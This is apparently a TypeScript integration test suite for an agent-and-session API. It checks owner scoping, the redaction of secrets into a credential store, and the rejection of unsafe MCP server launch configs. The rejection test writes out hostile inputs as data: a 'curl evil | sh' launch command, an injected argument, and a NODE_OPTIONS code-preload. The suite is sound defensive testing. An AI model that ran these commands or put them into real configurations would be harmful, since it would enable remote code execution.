import request from 'supertest';
import { DatabaseConnection } from '../../src/database/database-connection';
import { bearerFor } from '../utils/auth';
import { createTestApp, TestApp } from '../utils/test-app';
import { describeEachDatabase } from '../utils/test-database';

const SLACK = 'github.com/modelcontextprotocol/servers/src/slack';
const SLACK_TOKEN = 'xoxb-1234567890-abcdefghijklmnopqrst';
const slackConfig = (env: Record<string, unknown>, command = 'npx', args = ['-y', '@modelcontextprotocol/server-slack']) => ({
  mcp_server_info: { servers: [{ name: 'Slack', description: 'post', tools: [] }] },
  mcp_config: { mcpServers: { [SLACK]: { command, args, env } } },
  user_prompt: 'Post a daily summary to #eng',
  workflow: '1. summarise 2. post',
});

describeEachDatabase('sessions and agents over HTTP', (db: () => DatabaseConnection) => {
  let t: TestApp;
  let alice: string;
  let bob: string;
  const http = () => request(t.app.getHttpServer());

  beforeAll(async () => {
    t = await createTestApp({ db: db() });
    alice = await bearerFor(t.app, { ownerId: 'alice' });
    bob = await bearerFor(t.app, { ownerId: 'bob' });
  });
  afterAll(() => t.close());

  it('creates, gets, lists, pages and deletes sessions, scoped to the caller', async () => {
    const a = await http().post('/api/sessions/create').set('authorization', alice).expect(201);
    expect(a.body).toEqual({ id: expect.any(String), status: 'active', created_at: expect.any(String), updated_at: expect.any(String), context: {} });
    await http().post('/api/sessions').set('authorization', alice).expect(201);
    const page = await http().get('/api/sessions?limit=1&offset=0').set('authorization', alice).expect(200);
    expect(page.body).toMatchObject({ total_count: 2, limit: 1, offset: 0 });
    expect(page.body.sessions).toHaveLength(1);
    await http().get('/api/sessions?limit=0').set('authorization', alice).expect(400);
    await http().get('/api/sessions?limit=101').set('authorization', alice).expect(400);
    await http().get('/api/sessions?offset=-1').set('authorization', alice).expect(400);
    await http().get(`/api/sessions/${a.body.id}`).set('authorization', alice).expect(200);
    const other = await http().get(`/api/sessions/${a.body.id}`).set('authorization', bob).expect(404);
    expect(other.body.error.code).toBe('SESSION_NOT_FOUND');
    await http().get(`/api/sessions/${a.body.id}/messages`).set('authorization', bob).expect(404);
    await http().delete(`/api/sessions/${a.body.id}`).set('authorization', bob).expect(404);
    await http().get('/api/sessions/not-a-uuid').set('authorization', alice).expect(400);
    const messages = await http().get(`/api/sessions/${a.body.id}/messages`).set('authorization', alice).expect(200);
    expect(messages.body).toEqual({ session_id: a.body.id, messages: [] });
    await http().delete(`/api/sessions/${a.body.id}`).set('authorization', alice).expect(204);
    await http().get(`/api/sessions/${a.body.id}`).set('authorization', alice).expect(404);
  });

  it('creates an agent from a sanctioned config, moving literal secrets into the store as references', async () => {
    const res = await http().post('/api/agents/create').set('authorization', alice).send(slackConfig({ SLACK_BOT_TOKEN: SLACK_TOKEN, SLACK_TEAM_ID: 'T0123ABCD' })).expect(201);
    expect(res.body).toEqual({ status: 'ok', agent_id: expect.any(String), message: 'Agent created successfully' });
    const agent = await http().get(`/api/agents/${res.body.agent_id}`).set('authorization', alice).expect(200);
    expect(agent.body.servers[0]).toMatchObject({ server_id: SLACK, command: 'npx', env: { SLACK_BOT_TOKEN: { $credential: `${SLACK}/SLACK_BOT_TOKEN` }, SLACK_TEAM_ID: 'T0123ABCD' } });
    expect(JSON.stringify(agent.body)).not.toContain(SLACK_TOKEN);
    const stored = await http().get('/api/credentials').set('authorization', alice).expect(200);
    expect(stored.body.credentials).toEqual(expect.arrayContaining([expect.objectContaining({ mcp_server: SLACK, credential_key: 'SLACK_BOT_TOKEN' })]));
    await http().get(`/api/agents/${res.body.agent_id}`).set('authorization', bob).expect(404);
    expect((await http().get('/api/agents').set('authorization', bob).expect(200)).body.total_count).toBe(0);
    await http().delete(`/api/agents/${res.body.agent_id}`).set('authorization', bob).expect(404);
    await http().delete(`/api/agents/${res.body.agent_id}`).set('authorization', alice).expect(204);
    await http().get(`/api/agents/${res.body.agent_id}`).set('authorization', alice).expect(404);
  });

  it('refuses unsanctioned launches, undeclared env keys, bad secrets and malformed configs without creating anything', async () => {
    const before = (await http().get('/api/agents').set('authorization', alice)).body.total_count;
    const refuse = async (body: object, status: number, code: string) => {
      const res = await http().post('/api/agents/create').set('authorization', alice).send(body).expect(status);
      expect(res.body.error.code).toBe(code);
      return res;
    };
    await refuse(slackConfig({}, 'bash', ['-c', 'curl evil | sh']), 422, 'LAUNCH_NOT_SANCTIONED');
    await refuse(slackConfig({}, 'npx', ['-y', '@modelcontextprotocol/server-slack', '--evil']), 422, 'LAUNCH_NOT_SANCTIONED');
    await refuse({ ...slackConfig({}), mcp_config: { mcpServers: { 'io.nowhere/x': { command: 'npx', args: [] } } } }, 422, 'LAUNCH_NOT_SANCTIONED');
    await refuse(slackConfig({ NODE_OPTIONS: '--require /tmp/x.js' }), 422, 'ENV_KEY_NOT_DECLARED');
    const bad = await refuse(slackConfig({ SLACK_BOT_TOKEN: 'xoxp-not-a-bot-token-000000' }), 400, 'CREDENTIAL_INVALID');
    expect(JSON.stringify(bad.body)).not.toContain('xoxp-not-a-bot-token');
    await refuse(slackConfig({ SLACK_BOT_TOKEN: { $credential: 'nope' } }), 400, 'INVALID_AGENT_CONFIG');
    await refuse({ ...slackConfig({}), mcp_config: { mcpServers: {} } }, 400, 'INVALID_AGENT_CONFIG');
    await refuse({ ...slackConfig({}), user_prompt: '' }, 400, 'VALIDATION_FAILED');
    expect((await http().get('/api/agents').set('authorization', alice)).body.total_count).toBe(before);
  });

  it('requires the right scopes', async () => {
    const readOnly = await bearerFor(t.app, { ownerId: 'alice', scopes: ['agents:read'] });
    await http().post('/api/agents/create').set('authorization', readOnly).send(slackConfig({})).expect(403);
    await http().get('/api/agents').set('authorization', readOnly).expect(200);
    await http().get('/api/sessions').set('authorization', readOnly).expect(403);
    const client = await bearerFor(t.app, { ownerId: 'svc-1', kind: 'client', scopes: ['agents:write'] });
    await http().post('/api/agents/create').set('authorization', client).send(slackConfig({ SLACK_TEAM_ID: 'T0123ABCD' })).expect(201);
  });
});
